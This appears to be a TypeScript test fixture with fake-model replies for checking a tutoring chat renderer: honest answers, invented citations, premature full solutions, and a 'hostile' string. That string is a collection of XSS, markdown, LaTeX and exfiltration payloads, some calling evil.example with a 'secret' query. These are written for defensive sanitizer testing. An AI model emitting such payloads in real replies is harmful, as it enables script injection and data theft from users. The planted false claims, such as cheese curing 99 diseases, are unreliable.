// Replies of fake models in open conversation: honest, false, hostile or premature.
import type { ReadPrompt } from './prompt.ts'
import { findSentences } from './replies.ts'

const own = 'From what I know, **energy** is kept: $E = mc^2$.'

const hints = [
  'You are asked for a value that makes both sides equal. Undo one operation after the other.',
  'Next, take the same number away from both sides.',
  'Taking 2 away from both sides leaves $3x = 9$. The rest is yours.',
  'Taking 2 away gives $3x = 9$.\n\nThe final answer is $x = 3$.',
]

const cited = (text: string, { passage, quote }: { passage: number; quote: string }) =>
  `${text}\n[[${passage}]] ${quote}\n\n`

/** The best sentence of the passages with its quotation, then something of its own; hints one by one. */
export const honest = (prompt: ReadPrompt): string => {
  if (prompt.hint > 0) return hints[prompt.hint - 1] ?? ''
  const [best] = findSentences(prompt)
  const first = best ? cited(`In short: ${best.text}`, { passage: best.passage, quote: best.text }) : ''
  return `${first}${own}\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n`
}

/**
 * Genuine quotations below another statement, below two sentences of which only one is supported, and an
 * invented one.
 */
export const claimsUnsupported = (prompt: ReadPrompt): string => {
  const [best] = findSentences(prompt)
  const quote = { passage: best?.passage ?? 1, quote: best?.text ?? '' }
  return (
    cited('The Romans built 77 lighthouses in Albania.', quote) +
    cited(`${quote.quote} Also, cheese cures 99 diseases.`, quote) +
    cited('The answer is known.', { passage: 1, quote: 'It is well known that the answer is forty-two.' }) +
    honest(prompt)
  )
}

/** Full solution, whatever hint was asked for. */
export const solvesAtOnce =
  'You are asked for a number. Undo the steps.\n\nTaking 2 away leaves $3x = 9$.\n\nThe final answer is $x = 3$.\n\nSo three it is.'
export const onlySolves = 'Solution: $x = 3$.'
/** Takes for an exercise what no rule would, and solves it all the same. */
export const marksExercise =
  '[[exercise]]\n\nWhich law connects the two? Begin with it.\n\nThe final answer is 12 newtons.'

/** Known ways to make a page run or fetch something. */
export const hostile = `<script>window.pwned = 1; fetch('https://evil.example/s')</script>

<img src="https://evil.example/a.png" onerror="window.pwned = 1"> and <svg onload="window.pwned = 1"></svg>

![pixel](https://evil.example/b.png?q=secret) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[press me](javascript:window.pwned=1) [and me](JaVaScRiPt:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:msgbox(1))

[reference][r] <https://evil.example/auto> https://evil.example/bare www.evil.example ![ref picture][r]

[r]: https://evil.example/ref.png "title"

<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><link rel=stylesheet href=https://evil.example/c.css>

<style>@import url(https://evil.example/d.css);</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">

$\\href{javascript:window.pwned=1}{x}$ $\\url{https://evil.example/k}$ $\\includegraphics{https://evil.example/l.png}$ $\\htmlData{onclick=window.pwned=1}{y}$

$$
\\def\\a{\\a\\a}\\a
$$

| <img src=x onerror=window.pwned=1> | ![t](https://evil.example/t.png) |
|---|---|
| <details open ontoggle=window.pwned=1> | [c](javascript:window.pwned=1) |

- [ ] <input autofocus onfocus=window.pwned=1>

\`\`\`html
<script>window.pwned = 1</script>
\`\`\`

The reply ends here.`
